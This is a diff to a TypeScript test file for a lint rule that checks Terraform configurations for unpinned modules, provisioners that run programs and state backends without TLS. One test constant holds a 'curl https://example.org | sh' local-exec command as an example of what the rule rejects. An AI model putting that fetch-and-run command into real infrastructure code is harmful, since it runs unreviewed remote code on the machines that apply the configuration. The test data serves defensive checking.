@@ -14,6 +14,17 @@ function terraform(when: string, change: (block: Editable) => void, says?: RegEx
   };
 }
 
+const RUN = { "local-exec": { command: "curl https://example.org | sh" } };
+
+function stack(when: string, change: (configuration: Editable) => void, says?: RegExp): EditCase {
+  return {
+    when,
+    on: "",
+    ...(says === undefined ? {} : { says }),
+    edit: ({ configuration }) => change(configuration),
+  };
+}
+
 export const cases: RuleCases = {
   rule: pinnedToolchain,
   passes: [
@@ -28,8 +39,44 @@ export const cases: RuleCases = {
     terraform("a service keeps the state", (block) => {
       block.backend = { remote: { organization: "corp" } };
     }),
+    terraform("the state goes by an endpoint with TLS", (block) => {
+      block.backend.s3.endpoints = { s3: "https://s3-fips.us-gov-west-1.amazonaws.com" };
+    }),
   ],
   fails: [
+    stack(
+      "a resource runs a program",
+      (configuration) => {
+        configuration.resource.terraform_data.more = { provisioner: [RUN] };
+      },
+      /terraform_data.more runs a program by local-exec/,
+    ),
+    stack(
+      "a program is asked",
+      (configuration) => {
+        configuration.data = { ...configuration.data, external: { more: { program: ["sh"] } } };
+      },
+      /data.external.more/,
+    ),
+    stack("a program runs when something is taken out", (configuration) => {
+      configuration.removed = [{ from: "aws_s3_bucket.more", provisioner: [RUN] }];
+    }),
+    stack("an action is a program", (configuration) => {
+      configuration.action = { local_command: { more: {} } };
+    }),
+    stack(
+      "a module has no version",
+      (configuration) => {
+        configuration.module = { more: { source: "terraform-aws-modules/vpc/aws" } };
+      },
+      /module.more comes from/,
+    ),
+    stack("a module is of whatever is in a repository", (configuration) => {
+      configuration.module = { more: { source: "github.com/corp/more" } };
+    }),
+    terraform("the state goes to somewhere without TLS", (block) => {
+      block.backend.s3.endpoint = "http://s3.corp.example";
+    }),
     terraform("no version is said", (block) => delete block.required_providers.aws.version, /version/),
     terraform("any newer version will do", (block) => {
       block.required_providers.aws.version = ">= 5.0";
@@ -56,6 +103,19 @@ export const cases: RuleCases = {
     }),
   ],
   unknown: [
+    stack(
+      "a module of one version makes what nobody sees",
+      (configuration) => {
+        configuration.module = { more: { source: "terraform-aws-modules/vpc/aws", version: "5.21.0" } };
+      },
+      /judge the plan/,
+    ),
+    stack("a module of one commit does", (configuration) => {
+      configuration.module = { more: { source: "git::https://git.corp.example/more.git?ref=v1.2.0" } };
+    }),
+    stack("a module of one's own does", (configuration) => {
+      configuration.module = { more: { source: "./modules/more" } };
+    }),
     terraform("a variable decides", (block) => {
       block.backend.s3.encrypt = "${var.encrypt}";
     }),
